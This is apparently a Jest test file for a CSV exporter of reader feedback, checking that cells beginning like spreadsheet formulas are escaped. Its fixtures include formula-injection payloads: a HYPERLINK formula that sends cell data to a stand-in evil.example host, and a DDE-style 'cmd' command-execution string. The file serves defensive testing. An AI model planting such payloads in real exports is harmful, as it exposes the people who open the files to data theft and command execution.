/** The report in a spreadsheet: nothing that a reader wrote is run there. */
import { describe, expect, test } from '@jest/globals';
import { createCommentsCsv, createPagesCsv } from '@/services/feedback/reportCsv';
import type { FeedbackReport } from '@/src/shared/feedback';

const comment = (text: string, section = '') => ({
  section,
  rating: 'down' as const,
  comment: text,
  language: 'en',
  version: '6.4.1',
  changedAt: '2026-01-02T03:04:05.678Z',
});

const report = (...comments: ReturnType<typeof comment>[]): FeedbackReport => ({
  pages: [
    {
      page: '/a/',
      up: 3,
      down: 2,
      sections: [
        { section: '', up: 1, down: 2 },
        { section: 'usage', up: 2, down: 0 },
      ],
      comments,
    },
  ],
});

test('pages: a line per page and section, with the number of comments', () => {
  expect(createPagesCsv(report(comment('x'), comment('y', 'usage'), comment('z', 'usage')))).toBe(
    '\ufeff"page","section","up","down","comments"\r\n"/a/","",1,2,1\r\n"/a/","usage",2,0,2\r\n',
  );
});

test('an empty list has no line', () => {
  expect(createPagesCsv({ pages: [] })).toBe('\ufeff"page","section","up","down","comments"\r\n');
});

describe('comments', () => {
  const cellOf = (text: string) => {
    const start = '\ufeff"page","section","rating","comment","language","version","changed"\r\n';
    const csv = createCommentsCsv(report(comment(text)));
    expect(csv.startsWith(`${start}"/a/","","down",`)).toBe(true);
    expect(csv.endsWith(',"en","6.4.1","2026-01-02T03:04:05.678Z"\r\n')).toBe(true);
    return csv.slice(start.length + '"/a/","","down",'.length, -',"en","6.4.1",'.length - 28);
  };

  test.each([
    ['=HYPERLINK("http://evil.example?"&A1)', '"\'=HYPERLINK(""http://evil.example?""&A1)"'],
    ['+1', '"\'+1"'],
    ["-1+cmd|' /C calc'!A0", "\"'-1+cmd|' /C calc'!A0\""],
    ['@SUM(1)', '"\'@SUM(1)"'],
    ['\t=1', '"\'\t=1"'],
    ['\r=1', '"\'\r=1"'],
    ['＝1', '"\'＝1"'],
    ['-section', '"\'-section"'],
    // Quotes and separators end no cell, so that none begins with what follows them.
    ['a";=1;"', '"a"";=1;"""'],
    ['a,=1', '"a,=1"'],
    ['two\nlines', '"two\nlines"'],
    ['plain – ünï', '"plain – ünï"'],
  ])('%j is %s', (text, cell) => {
    expect(cellOf(text)).toBe(cell);
  });

  test('a section that begins like a formula is one text, too', () => {
    expect(createCommentsCsv(report(comment('x', '-1')))).toContain('"/a/","\'-1","down","x"');
  });
});
